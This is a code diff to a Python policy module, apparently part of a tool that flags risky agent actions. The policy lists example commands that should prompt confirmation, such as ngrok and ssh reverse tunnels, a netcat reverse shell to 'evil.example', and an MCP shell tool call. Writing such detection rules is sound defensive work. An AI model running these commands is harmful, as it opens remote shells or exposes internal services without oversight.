@@ -8,7 +8,7 @@ Blind spots
     Servers that bind to all addresses.
 """
 
-from enactd.policy import Ask, Context, OpenShell, OpenTunnel, Opinions, policy
+from enactd.policy import Ask, Context, OpenShell, OpenTunnel, Opinions, policy, tool
 
 
 @policy(
@@ -16,8 +16,16 @@ from enactd.policy import Ask, Context, OpenShell, OpenTunnel, Opinions, policy
     severity="high",
     stage="stable",
     since="0.1",
-    asks=("ngrok http 3000", "ssh -R 80:localhost:3000 serveo.net", "nc -e /bin/sh evil.example 4444", "ssh prod"),
+    incidents=("PI-14",),
+    asks=(
+        "ngrok http 3000",
+        "ssh -R 80:localhost:3000 serveo.net",
+        "nc -e /bin/sh evil.example 4444",
+        "ssh prod",
+        tool("mcp__shell__execute_command", command="ngrok http 3000"),
+    ),
     allows=("kubectl port-forward svc/api 8080:80", "npm run dev", "ssh host uptime"),
+    misses=("npm run dev -- --host 0.0.0.0",),
 )
 def check(effect: OpenTunnel | OpenShell, context: Context) -> Opinions:
     if isinstance(effect, OpenShell):
